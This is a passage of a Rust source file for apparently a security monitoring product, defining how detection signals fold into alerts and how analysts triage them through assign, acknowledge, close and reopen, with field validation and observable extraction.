//! Alerts: what detection raised, folded so that an analyst on shift is not
//! drowned in repeats, and triaged by people.
//!
//! Detection knows an [`AlertSignal`]: one event matched one rule. Signals
//! of the same rule and the same key (the rule's own key, or by default the
//! host and the user) within a window of the alert's last event fold into
//! one [`Alert`] with a count ([`AlertFolding`]): the count grows, `last_seen`
//! moves, and the first [`MAX_ALERT_EVENT_IDS`] event ids are kept. A closed
//! alert is never folded into; a repeat opens a new alert. Folding is pure
//! logic here, so both storage backends fold the same way inside their own
//! transaction.
//!
//! People then triage an alert ([`AlertTriage`]): assign, acknowledge,
//! close with a [`Resolution`], reopen (back to `new` or `acknowledged`).
//! [`Alert::triage`] says whether a change is allowed and what it makes of
//! the alert; a change that changes nothing is `None` (not written, not
//! audited).
//!
//! Exercise alerts ([`Alert::exercise`]) never fold with real ones and are
//! listed apart; retrospective alerts (intelligence retro-hunts over past
//! events) never fold with live ones.

use std::fmt;
use std::str::FromStr;
use std::time::Duration;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::{InstanceId, SensorId, TenantId, Timestamp, UnknownWord, UserId};

use crate::{AlertCommentId, AlertId, IncidentId};

/// How many matching event ids an alert keeps (its `count` goes on beyond).
pub const MAX_ALERT_EVENT_IDS: usize = 100;
/// The default folding window: repeats within an hour of the alert's last event fold.
pub const DEFAULT_FOLD_WINDOW: Duration = Duration::from_secs(60 * 60);
/// Longest rule id, in characters.
pub const RULE_ID_MAX_CHARS: usize = 200;
/// Longest rule title, in characters.
pub const RULE_TITLE_MAX_CHARS: usize = 500;
/// Longest rule author, reference or tag, in characters.
pub const RULE_TEXT_MAX_CHARS: usize = 1000;
/// Most references a rule may carry into an alert.
pub const MAX_RULE_REFERENCES: usize = 64;
/// Most tags a rule may carry into an alert.
pub const MAX_RULE_TAGS: usize = 128;
/// Longest event id, in characters.
pub const EVENT_ID_MAX_CHARS: usize = 200;
/// Longest host name, user name or fold key, in characters.
pub const ALERT_KEY_MAX_CHARS: usize = 1000;
/// Most matched fields kept on an alert.
pub const MAX_MATCHED_FIELDS: usize = 64;
/// Largest matched fields, as JSON, in bytes.
pub const MATCHED_FIELDS_MAX_BYTES: usize = 16 * 1024;
/// Longest comment or resolution note, in characters.
pub const ALERT_TEXT_MAX_CHARS: usize = 10_000;

/// The JSON object of the fields that matched (field name → value).
pub type MatchedFields = serde_json::Map<String, serde_json::Value>;

/// How serious an alert is: the Sigma rule's `level`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Severity {
    /// Informational: no harm by itself.
    Informational,
    /// Low.
    Low,
    /// Medium.
    Medium,
    /// High.
    High,
    /// Critical: act now.
    Critical,
}

impl Severity {
    /// Every severity, least serious first.
    pub const ALL: [Severity; 5] = [
        Severity::Informational,
        Severity::Low,
        Severity::Medium,
        Severity::High,
        Severity::Critical,
    ];

    /// The word as stored and in the API (Sigma's level words).
    pub const fn as_str(self) -> &'static str {
        match self {
            Severity::Informational => "informational",
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
            Severity::Critical => "critical",
        }
    }

    /// A number that orders severities (0 informational .. 4 critical), as stored.
    pub const fn rank(self) -> i32 {
        match self {
            Severity::Informational => 0,
            Severity::Low => 1,
            Severity::Medium => 2,
            Severity::High => 3,
            Severity::Critical => 4,
        }
    }

    /// The severity of a stored rank.
    pub fn from_rank(rank: i64) -> Option<Self> {
        Severity::ALL
            .into_iter()
            .find(|s| i64::from(s.rank()) == rank)
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for Severity {
    type Err = UnknownWord;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let word = s.trim().to_ascii_lowercase();
        Severity::ALL
            .into_iter()
            .find(|severity| severity.as_str() == word)
            .ok_or_else(|| UnknownWord {
                what: "severity",
                value: s.to_owned(),
                expected: "informational, low, medium, high, critical",
            })
    }
}

/// What raised an alert. New kinds of detection add a kind here.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AlertSource {
    /// A Sigma detection rule matched one event.
    SigmaRule,
    /// A Sigma correlation rule matched a pattern over many events.
    CorrelationRule,
    /// An event matched a threat-intelligence indicator.
    IndicatorMatch,
    /// A sensor's health changed (e.g. it went silent).
    SensorHealth,
    /// A deadline passed (e.g. a mandatory report not filed in time).
    Deadline,
}

impl AlertSource {
    /// Every kind.
    pub const ALL: [AlertSource; 5] = [
        AlertSource::SigmaRule,
        AlertSource::CorrelationRule,
        AlertSource::IndicatorMatch,
        AlertSource::SensorHealth,
        AlertSource::Deadline,
    ];

    /// The word as stored and in the API.
    pub const fn as_str(self) -> &'static str {
        match self {
            AlertSource::SigmaRule => "sigma_rule",
            AlertSource::CorrelationRule => "correlation_rule",
            AlertSource::IndicatorMatch => "indicator_match",
            AlertSource::SensorHealth => "sensor_health",
            AlertSource::Deadline => "deadline",
        }
    }
}

impl fmt::Display for AlertSource {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for AlertSource {
    type Err = UnknownWord;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let word = s.trim().to_ascii_lowercase();
        AlertSource::ALL
            .into_iter()
            .find(|source| source.as_str() == word)
            .ok_or_else(|| UnknownWord {
                what: "alert source",
                value: s.to_owned(),
                expected: "sigma_rule, correlation_rule, indicator_match, sensor_health, deadline",
            })
    }
}

/// Where an alert is in triage.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AlertStatus {
    /// Nobody has looked at it yet.
    New,
    /// Someone is on it.
    Acknowledged,
    /// Done, with a resolution.
    Closed,
}

impl AlertStatus {
    /// Every status.
    pub const ALL: [AlertStatus; 3] = [
        AlertStatus::New,
        AlertStatus::Acknowledged,
        AlertStatus::Closed,
    ];

    /// The word as stored and in the API.
    pub const fn as_str(self) -> &'static str {
        match self {
            AlertStatus::New => "new",
            AlertStatus::Acknowledged => "acknowledged",
            AlertStatus::Closed => "closed",
        }
    }
}

impl fmt::Display for AlertStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for AlertStatus {
    type Err = UnknownWord;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let word = s.trim().to_ascii_lowercase();
        AlertStatus::ALL
            .into_iter()
            .find(|status| status.as_str() == word)
            .ok_or_else(|| UnknownWord {
                what: "alert status",
                value: s.to_owned(),
                expected: "new, acknowledged, closed",
            })
    }
}

/// Why an alert was closed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Resolution {
    /// A real attack (or real misuse).
    TruePositive,
    /// The rule fired on something it should not have.
    FalsePositive,
    /// Real activity, but allowed or harmless (e.g. an authorised scan).
    Benign,
    /// Another alert covers it.
    Duplicate,
}

impl Resolution {
    /// Every resolution.
    pub const ALL: [Resolution; 4] = [
        Resolution::TruePositive,
        Resolution::FalsePositive,
        Resolution::Benign,
        Resolution::Duplicate,
    ];

    /// The word as stored and in the API.
    pub const fn as_str(self) -> &'static str {
        match self {
            Resolution::TruePositive => "true_positive",
            Resolution::FalsePositive => "false_positive",
            Resolution::Benign => "benign",
            Resolution::Duplicate => "duplicate",
        }
    }
}

impl fmt::Display for Resolution {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for Resolution {
    type Err = UnknownWord;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let word = s.trim().to_ascii_lowercase();
        Resolution::ALL
            .into_iter()
            .find(|resolution| resolution.as_str() == word)
            .ok_or_else(|| UnknownWord {
                what: "resolution",
                value: s.to_owned(),
                expected: "true_positive, false_positive, benign, duplicate",
            })
    }
}

/// A signal or alert field that was rejected, naming the field.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum InvalidAlertField {
    /// A text field was empty where it may not be.
    #[error("{0} is empty")]
    Empty(&'static str),
    /// A text field was too long.
    #[error("{field} is {chars} characters long; at most {max} are allowed")]
    TooLong {
        /// The field.
        field: &'static str,
        /// Its length.
        chars: usize,
        /// The limit.
        max: usize,
    },
    /// A list had too many items.
    #[error("{field} has {items} items; at most {max} are allowed")]
    TooMany {
        /// The field.
        field: &'static str,
        /// How many were given.
        items: usize,
        /// The limit.
        max: usize,
    },
    /// A single-line field contained a control character.
    #[error("{0} contains a control character")]
    ControlCharacter(&'static str),
}

fn check_text(
    field: &'static str,
    text: &str,
    max: usize,
    single_line: bool,
) -> Result<(), InvalidAlertField> {
    if text.trim().is_empty() {
        return Err(InvalidAlertField::Empty(field));
    }
    let chars = text.chars().count();
    if chars > max {
        return Err(InvalidAlertField::TooLong { field, chars, max });
    }
    // Line breaks and tabs are allowed in multi-line text only.
    let forbidden = |c: char| c.is_control() && (single_line || !matches!(c, '\n' | '\r' | '\t'));
    if text.chars().any(forbidden) {
        return Err(InvalidAlertField::ControlCharacter(field));
    }
    Ok(())
}

/// The rule that raised an alert, as the alert keeps it (the rule may change later).
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct AlertRule {
    /// The rule's id (a Sigma rule's `id`, usually a UUID).
    pub id: String,
    /// Its title.
    pub title: String,
    /// Its level, which is the alert's severity.
    pub level: Severity,
    /// Its author.
    pub author: Option<String>,
    /// Its references (URLs, reports).
    pub references: Vec<String>,
    /// Its tags (`attack.t1059.001`, `attack.execution`, `cve.2021-44228`, ...).
    pub tags: Vec<String>,
}

impl AlertRule {
    /// A rule with only an id, a title and a level.
    pub fn new(id: impl Into<String>, title: impl Into<String>, level: Severity) -> Self {
        Self {
            id: id.into(),
            title: title.into(),
            level,
            author: None,
            references: Vec::new(),
            tags: Vec::new(),
        }
    }

    /// The MITRE ATT&CK technique ids among the tags (`attack.t1059.001` →
    /// `T1059.001`), in tag order, each once.
    pub fn attack_techniques(&self) -> Vec<String> {
        let mut techniques: Vec<String> = Vec::new();
        for tag in &self.tags {
            if let Some(technique) = attack_technique(tag)
                && !techniques.contains(&technique)
            {
                techniques.push(technique);
            }
        }
        techniques
    }

    /// Checks the bounds of every field.
    pub fn check(&self) -> Result<(), InvalidAlertField> {
        check_text("rule id", &self.id, RULE_ID_MAX_CHARS, true)?;
        check_text("rule title", &self.title, RULE_TITLE_MAX_CHARS, true)?;
        if let Some(author) = &self.author {
            check_text("rule author", author, RULE_TEXT_MAX_CHARS, true)?;
        }
        if self.references.len() > MAX_RULE_REFERENCES {
            return Err(InvalidAlertField::TooMany {
                field: "rule references",
                items: self.references.len(),
                max: MAX_RULE_REFERENCES,
            });
        }
        for reference in &self.references {
            check_text("rule reference", reference, RULE_TEXT_MAX_CHARS, true)?;
        }
        if self.tags.len() > MAX_RULE_TAGS {
            return Err(InvalidAlertField::TooMany {
                field: "rule tags",
                items: self.tags.len(),
                max: MAX_RULE_TAGS,
            });
        }
        for tag in &self.tags {
            check_text("rule tag", tag, RULE_TEXT_MAX_CHARS, true)?;
        }
        Ok(())
    }
}

/// The ATT&CK technique id of a Sigma tag `attack.tNNNN` or
/// `attack.tNNNN.NNN` (any case), upper-cased; `None` for any other tag.
pub fn attack_technique(tag: &str) -> Option<String> {
    let rest = tag.trim().to_ascii_lowercase();
    let rest = rest.strip_prefix("attack.t")?;
    let (technique, sub) = match rest.split_once('.') {
        Some((technique, sub)) => (technique, Some(sub)),
        None => (rest, None),
    };
    let digits =
        |text: &str, len: usize| text.len() == len && text.bytes().all(|b| b.is_ascii_digit());
    if !digits(technique, 4) || sub.is_some_and(|sub| !digits(sub, 3)) {
        return None;
    }
    Some(match sub {
        Some(sub) => format!("T{technique}.{sub}"),
        None => format!("T{technique}"),
    })
}

/// What detection knows when one event matched one rule: the input of raising.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AlertSignal {
    /// The tenant the event belongs to (stamped by intake from the sensor).
    pub tenant: TenantId,
    /// The sensor that sent the event, if one did.
    pub sensor: Option<SensorId>,
    /// What kind of detection raised it.
    pub source: AlertSource,
    /// The rule that matched.
    pub rule: AlertRule,
    /// The matching event's id (as on the bus and in search).
    pub event_id: String,
    /// The event's own time (`@timestamp`).
    pub event_time: Timestamp,
    /// When intake received the event: the start of the event-to-alert latency.
    pub received_at: Timestamp,
    /// The fields that matched, with their values.
    pub matched_fields: MatchedFields,
    /// The event's host (`host.name`), if it has one.
    pub host: Option<String>,
    /// The event's user (`user.name`), if it has one.
    pub user: Option<String>,
    /// The rule's own folding key (e.g. its correlation `group-by` values),
    /// replacing the default host + user.
    pub fold_key: Option<String>,
    /// Raised by a retro-hunt over past events, not live detection.
    pub retrospective: bool,
    /// Exercise data: never mixes with real alerts.
    pub exercise: bool,
}

impl AlertSignal {
    /// A live, real signal of a Sigma rule, with no host, user, sensor or matched fields.
    pub fn new(
        tenant: TenantId,
        rule: AlertRule,
        event_id: impl Into<String>,
        event_time: Timestamp,
    ) -> Self {
        Self {
            tenant,
            sensor: None,
            source: AlertSource::SigmaRule,
            rule,
            event_id: event_id.into(),
            event_time,
            received_at: event_time,
            matched_fields: MatchedFields::new(),
            host: None,
            user: None,
            fold_key: None,
            retrospective: false,
            exercise: false,
        }
    }

    /// Checks the bounds of every field (a signal that fails is rejected, never stored).
    pub fn check(&self) -> Result<(), InvalidAlertField> {
        self.rule.check()?;
        check_text("event id", &self.event_id, EVENT_ID_MAX_CHARS, true)?;
        for (field, value) in [
            ("host", &self.host),
            ("user", &self.user),
            ("fold key", &self.fold_key),
        ] {
            if let Some(value) = value {
                check_text(field, value, ALERT_KEY_MAX_CHARS, true)?;
            }
        }
        if self.matched_fields.len() > MAX_MATCHED_FIELDS {
            return Err(InvalidAlertField::TooMany {
                field: "matched fields",
                items: self.matched_fields.len(),
                max: MAX_MATCHED_FIELDS,
            });
        }
        let bytes = serde_json::to_string(&self.matched_fields).map_or(usize::MAX, |s| s.len());
        if bytes > MATCHED_FIELDS_MAX_BYTES {
            return Err(InvalidAlertField::TooLong {
                field: "matched fields (as JSON, bytes)",
                chars: bytes,
                max: MATCHED_FIELDS_MAX_BYTES,
            });
        }
        Ok(())
    }

    /// The key repeats fold on, within the rule: the rule's own key, or the
    /// host and the user (compared without case).
    pub fn fold_key(&self) -> String {
        match &self.fold_key {
            Some(key) => format!("key:{key}"),
            None => format!(
                "host:{}\u{1f}user:{}",
                self.host.as_deref().unwrap_or_default().to_lowercase(),
                self.user.as_deref().unwrap_or_default().to_lowercase()
            ),
        }
    }

    /// Which alerts this signal may fold into: same tenant, rule, key, and
    /// the same exercise and retrospective flags.
    pub fn fold_group(&self) -> FoldGroup {
        FoldGroup {
            tenant: self.tenant,
            rule_id: self.rule.id.clone(),
            fold_key: self.fold_key(),
            exercise: self.exercise,
            retrospective: self.retrospective,
        }
    }

    /// What makes a redelivered signal the same signal — tenant, rule and
    /// event — as 16 bytes (a truncated SHA-256), so that the record kept to
    /// recognise redeliveries is small.
    pub fn delivery_key(&self) -> [u8; 16] {
        let mut hasher = Sha256::new();
        hasher.update(self.tenant.as_uuid().as_bytes());
        hasher.update(self.rule.id.as_bytes());
        hasher.update([0x1f]);
        hasher.update(self.event_id.as_bytes());
        let digest = hasher.finalize();
        let mut key = [0u8; 16];
        key.copy_from_slice(&digest[..16]);
        key
    }
}

/// The alerts a signal may fold into share all of these.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct FoldGroup {
    /// The tenant.
    pub tenant: TenantId,
    /// The rule's id.
    pub rule_id: String,
    /// The folding key ([`AlertSignal::fold_key`]).
    pub fold_key: String,
    /// Exercise alerts fold only with exercise alerts.
    pub exercise: bool,
    /// Retro-hunt alerts fold only with retro-hunt alerts.
    pub retrospective: bool,
}

/// An alert: repeats of one rule on one key, folded, and its triage.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Alert {
    /// Its id.
    pub id: AlertId,
    /// The instance that owns this record.
    pub instance: InstanceId,
    /// The tenant the events belong to.
    pub tenant: TenantId,
    /// The sensor of the first event, if any.
    pub sensor: Option<SensorId>,
    /// What kind of detection raised it.
    pub source: AlertSource,
    /// The rule, as it was when the alert opened.
    pub rule: AlertRule,
    /// What repeats fold on ([`AlertSignal::fold_key`]).
    pub fold_key: String,
    /// The host of the first event.
    pub host: Option<String>,
    /// The user of the first event.
    pub user: Option<String>,
    /// The first [`MAX_ALERT_EVENT_IDS`] matching events' ids, in the order folded.
    pub event_ids: Vec<String>,
    /// The fields that matched in the first event.
    pub matched_fields: MatchedFields,
    /// How serious: the rule's level.
    pub severity: Severity,
    /// The earliest matching event's time.
    pub first_seen: Timestamp,
    /// The latest matching event's time.
    pub last_seen: Timestamp,
    /// How many events matched (beyond the ids kept).
    pub count: u64,
    /// Where it is in triage.
    pub status: AlertStatus,
    /// Who is working on it.
    pub assignee: Option<UserId>,
    /// When it was (last) acknowledged.
    pub acknowledged_at: Option<Timestamp>,
    /// When it was closed, while closed.
    pub closed_at: Option<Timestamp>,
    /// Why it was closed, while closed.
    pub resolution: Option<Resolution>,
    /// The closing note, while closed.
    pub resolution_note: Option<AlertText>,
    /// Raised by a retro-hunt over past events.
    pub retrospective: bool,
    /// Exercise data.
    pub exercise: bool,
    /// When it was stored.
    pub created_at: Timestamp,
    /// When it last changed (folded or triaged).
    pub updated_at: Timestamp,
    /// The incident it was linked to, if it was (an alert belongs to at most one).
    pub incident: Option<IncidentId>,
}

/// Whether a matched field (lower-cased) names a user account
/// (`User`, `TargetUserName`, `user.name`), not a user agent or a user id.
fn is_user_field(name: &str) -> bool {
    name.contains("user")
        && !name.contains("agent")
        && !name.ends_with("id")
        && !name.ends_with("sid")
        && !name.contains("domain")
}

/// Every string in a JSON value (itself, or inside its arrays and objects).
fn string_leaves<'a>(value: &'a serde_json::Value, into: &mut Vec<&'a str>) {
    match value {
        serde_json::Value::String(text) => into.push(text),
        serde_json::Value::Array(items) => items.iter().for_each(|item| string_leaves(item, into)),
        serde_json::Value::Object(fields) => {
            fields.values().for_each(|item| string_leaves(item, into));
        }
        _ => {}
    }
}

impl Alert {
    /// A new alert from its first signal, stored at `at`.
    pub fn open(signal: &AlertSignal, instance: InstanceId, at: Timestamp) -> Self {
        Self {
            id: AlertId::new(),
            instance,
            tenant: signal.tenant,
            sensor: signal.sensor,
            source: signal.source,
            severity: signal.rule.level,
            rule: signal.rule.clone(),
            fold_key: signal.fold_key(),
            host: signal.host.clone(),
            user: signal.user.clone(),
            event_ids: vec![signal.event_id.clone()],
            matched_fields: signal.matched_fields.clone(),
            first_seen: signal.event_time,
            last_seen: signal.event_time,
            count: 1,
            status: AlertStatus::New,
            assignee: None,
            acknowledged_at: None,
            closed_at: None,
            resolution: None,
            resolution_note: None,
            retrospective: signal.retrospective,
            exercise: signal.exercise,
            created_at: at,
            updated_at: at,
            incident: None,
        }
    }

    /// The observables an incident gains when this alert is linked to it:
    /// addresses, domains, URLs, hashes, e-mail addresses and CVE ids in the
    /// matched fields' values (hash fields like `Hashes` hold
    /// `SHA256=...,MD5=...`), user names from user fields and the alert's
    /// user, and its host when the host is a domain name. Each once, in
    /// order of first appearance.
    pub fn observables(&self) -> Vec<crate::Observable> {
        let mut found: Vec<crate::Observable> = Vec::new();
        let mut push = |observable: crate::Observable| {
            if !found.contains(&observable) {
                found.push(observable);
            }
        };
        for (field, value) in &self.matched_fields {
            let name = field.to_ascii_lowercase();
            let mut texts = Vec::new();
            string_leaves(value, &mut texts);
            for text in texts {
                if is_user_field(&name) {
                    if let Ok(user) = crate::Observable::parse("user", text) {
                        push(user);
                    }
                } else if name.contains("hash") {
                    // `SHA256=ab..,MD5=cd..`: the algorithm names are no observables.
                    for observable in crate::extract_observables(&text.replace('=', " ")) {
                        push(observable);
                    }
                } else {
                    for observable in crate::extract_observables(text) {
                        push(observable);
                    }
                }
            }
        }
        if let Some(user) = &self.user
            && let Ok(user) = crate::Observable::parse("user", user)
        {
            push(user);
        }
        if let Some(host) = &self.host
            && let Ok(domain) = crate::Observable::parse("domain", host)
        {
            push(domain);
        }
        found
    }

    /// Which signals may fold into this alert.
    pub fn fold_group(&self) -> FoldGroup {
        FoldGroup {
            tenant: self.tenant,
            rule_id: self.rule.id.clone(),
            fold_key: self.fold_key.clone(),
            exercise: self.exercise,
            retrospective: self.retrospective,
        }
    }

    /// Whether an event at `event_time` folds into this alert: the alert is
    /// not closed and the event lies within `window` of the alert's events
    /// (at most `window` after `last_seen`, at most `window` before `first_seen`).
    pub fn accepts(&self, event_time: Timestamp, window: Duration) -> bool {
        if self.status == AlertStatus::Closed {
            return false;
        }
        let window = i64::try_from(window.as_micros()).unwrap_or(i64::MAX);
        let time = event_time.unix_micros();
        time <= self.last_seen.unix_micros().saturating_add(window)
            && time >= self.first_seen.unix_micros().saturating_sub(window)
    }

    /// Folds one more matching event in (the caller checked [`Alert::accepts`]).
    pub fn fold(&mut self, signal: &AlertSignal, at: Timestamp) {
        self.count = self.count.saturating_add(1);
        if self.event_ids.len() < MAX_ALERT_EVENT_IDS {
            self.event_ids.push(signal.event_id.clone());
        }
        self.first_seen = self.first_seen.min(signal.event_time);
        self.last_seen = self.last_seen.max(signal.event_time);
        self.updated_at = self.updated_at.max(at);
    }

    /// What `change` makes of this alert at `at`: `Ok(None)` when it changes
    /// nothing (e.g. acknowledging an acknowledged alert), an error when the
    /// alert's status does not allow it.
    pub fn triage(
        &self,
        change: &AlertTriage,
        at: Timestamp,
    ) -> Result<Option<Alert>, InvalidTriage> {
        let mut after = self.clone();
        match change {
            AlertTriage::Assign(assignee) => {
                if self.assignee == *assignee {
                    return Ok(None);
                }
                after.assignee = *assignee;
            }
            AlertTriage::Acknowledge => match self.status {
                AlertStatus::New => {
                    after.status = AlertStatus::Acknowledged;
                    after.acknowledged_at = Some(at);
                }
                AlertStatus::Acknowledged => return Ok(None),
                AlertStatus::Closed => {
                    return Err(InvalidTriage {
                        alert: self.id,
                        message: "it is closed: reopen it to work on it again",
                    });
                }
            },
            AlertTriage::Close { resolution, note } => {
                if self.status == AlertStatus::Closed {
                    return Err(InvalidTriage {
                        alert: self.id,
                        message: "it is closed already: reopen it first to close it with another resolution",
                    });
                }
                after.status = AlertStatus::Closed;
                after.closed_at = Some(at);
                after.resolution = Some(*resolution);
                after.resolution_note = note.clone();
            }
            AlertTriage::Reopen { to } => {
                if self.status != AlertStatus::Closed {
                    return Err(InvalidTriage {
                        alert: self.id,
                        message: "it is not closed, so it cannot be reopened",
                    });
                }
                after.status = match to {
                    ReopenAs::New => AlertStatus::New,
                    ReopenAs::Acknowledged => AlertStatus::Acknowledged,
                };
                if *to == ReopenAs::Acknowledged {
                    after.acknowledged_at = Some(at);
                }
                after.closed_at = None;
                after.resolution = None;
                after.resolution_note = None;
            }
        }
        after.updated_at = at;
        Ok(Some(after))
    }
}

/// A triage change the alert's status does not allow.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("alert {alert} cannot be changed so: {message}")]
pub struct InvalidTriage {
    /// The alert.
    pub alert: AlertId,
    /// Why not.
    pub message: &'static str,
}

/// The status a reopened alert goes back to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ReopenAs {
    /// Back in the queue, for anyone to pick up.
    New,
    /// Still being worked on.
    Acknowledged,
}

impl ReopenAs {
    /// The word in the API.
    pub const fn as_str(self) -> &'static str {
        match self {
            ReopenAs::New => "new",
            ReopenAs::Acknowledged => "acknowledged",
        }
    }
}

/// A change a person makes to an alert.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "action", rename_all = "snake_case")]
pub enum AlertTriage {
    /// Give it to someone (who may see it), or to nobody.
    Assign(Option<UserId>),
    /// Say someone is on it.
    Acknowledge,
    /// Close it with a resolution and an optional note.
    Close {
        /// Why.
        resolution: Resolution,
        /// A note for the record.
        note: Option<AlertText>,
    },
    /// Reopen a closed alert.
    Reopen {
        /// The status it goes back to.
        to: ReopenAs,
    },
}

impl AlertTriage {
    /// The audit action word of this change (`alert.assign`, ...).
    pub const fn action_name(&self) -> &'static str {
        match self {
            AlertTriage::Assign(_) => "alert.assign",
            AlertTriage::Acknowledge => "alert.acknowledge",
            AlertTriage::Close { .. } => "alert.close",
            AlertTriage::Reopen { .. } => "alert.reopen",
        }
    }
}

/// A comment or a resolution note: 1 to [`ALERT_TEXT_MAX_CHARS`]
/// characters, trimmed, line breaks and tabs allowed, no other control characters.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct AlertText(String);

impl AlertText {
    /// Parses text written by a person.
    pub fn parse(text: &str) -> Result<Self, InvalidAlertField> {
        let trimmed = text.trim();
        check_text("text", trimmed, ALERT_TEXT_MAX_CHARS, false)?;
        Ok(Self(trimmed.to_owned()))
    }

    /// The text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl TryFrom<String> for AlertText {
    type Error = InvalidAlertField;
    fn try_from(value: String) -> Result<Self, Self::Error> {
        Self::parse(&value)
    }
}

impl From<AlertText> for String {
    fn from(value: AlertText) -> Self {
        value.0
    }
}

impl fmt::Display for AlertText {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A comment on an alert.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AlertComment {
    /// Its id.
    pub id: AlertCommentId,
    /// The instance that owns this record.
    pub instance: InstanceId,
    /// The alert.
    pub alert: AlertId,
    /// The alert's tenant.
    pub tenant: TenantId,
    /// Who wrote it (`None`: the operator at the command line).
    pub author: Option<UserId>,
    /// What they wrote.
    pub body: AlertText,
    /// When.
    pub at: Timestamp,
}

/// What happened to an alert, as the change feed records it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AlertChangeKind {
    /// A new alert.
    Opened,
    /// More matching events folded in.
    Folded,
    /// A person assigned, acknowledged, closed or reopened it.
    Triaged,
    /// A person commented on it.
    Commented,
}

impl AlertChangeKind {
    /// Every kind.
    pub const ALL: [AlertChangeKind; 4] = [
        AlertChangeKind::Opened,
        AlertChangeKind::Folded,
        AlertChangeKind::Triaged,
        AlertChangeKind::Commented,
    ];

    /// The word as stored and in the stream.
    pub const fn as_str(self) -> &'static str {
        match self {
            AlertChangeKind::Opened => "opened",
            AlertChangeKind::Folded => "folded",
            AlertChangeKind::Triaged => "triaged",
            AlertChangeKind::Commented => "commented",
        }
    }
}

impl FromStr for AlertChangeKind {
    type Err = UnknownWord;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        AlertChangeKind::ALL
            .into_iter()
            .find(|kind| kind.as_str() == s)
            .ok_or_else(|| UnknownWord {
                what: "alert change",
                value: s.to_owned(),
                expected: "opened, folded, triaged, commented",
            })
    }
}

/// One entry of the alert change feed: alert `alert` changed so, as change
/// number `seq` (increasing, in commit order).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct AlertChange {
    /// Its position in the feed.
    pub seq: u64,
    /// The alert.
    pub alert: AlertId,
    /// The alert's tenant.
    pub tenant: TenantId,
    /// What happened.
    pub kind: AlertChangeKind,
    /// When.
    pub at: Timestamp,
}

/// What became of one signal in a raise.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SignalFate {
    /// It opened this alert.
    Opened(AlertId),
    /// It folded into this alert.
    Folded(AlertId),
    /// The same rule and event were raised before (a redelivery).
    Duplicate,
    /// It was refused: why.
    Rejected(String),
}

/// An alert written by a raise: opened by it, or folded into.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RaisedAlert {
    /// The alert as written.
    pub alert: Alert,
    /// Whether this raise opened it.
    pub opened: bool,
}

/// Folds the signals of one [`FoldGroup`] into alerts: the group's open
/// alert (if any) first, then alerts opened for signals outside its window.
///
/// Signals are taken in event-time order, so that the windows do not
/// depend on the order detection delivered them in.
#[derive(Debug)]
pub struct AlertFolding {
    window: Duration,
    instance: InstanceId,
    at: Timestamp,
    /// The alert folded into now, and whether anything folded into it.
    current: Option<(RaisedAlert, bool)>,
    done: Vec<RaisedAlert>,
}

impl AlertFolding {
    /// Starts folding into `open` (the group's most recent alert that is not
    /// closed, if any), with a window and the time of the raise.
    pub fn new(open: Option<Alert>, window: Duration, instance: InstanceId, at: Timestamp) -> Self {
        Self {
            window,
            instance,
            at,
            current: open
                .filter(|alert| alert.status != AlertStatus::Closed)
                .map(|alert| {
                    (
                        RaisedAlert {
                            alert,
                            opened: false,
                        },
                        false,
                    )
                }),
            done: Vec::new(),
        }
    }

    /// Folds one signal: into the current alert when it accepts it, else into a new alert.
    pub fn add(&mut self, signal: &AlertSignal) -> SignalFate {
        if let Some((current, touched)) = &mut self.current
            && current.alert.accepts(signal.event_time, self.window)
        {
            current.alert.fold(signal, self.at);
            *touched = true;
            return SignalFate::Folded(current.alert.id);
        }
        let opened = Alert::open(signal, self.instance, self.at);
        let id = opened.id;
        let previous = self.current.replace((
            RaisedAlert {
                alert: opened,
                opened: true,
            },
            true,
        ));
        if let Some((previous, true)) = previous {
            self.done.push(previous);
        }
        SignalFate::Opened(id)
    }

    /// The alerts to write: those opened, and the open alert if anything folded into it.
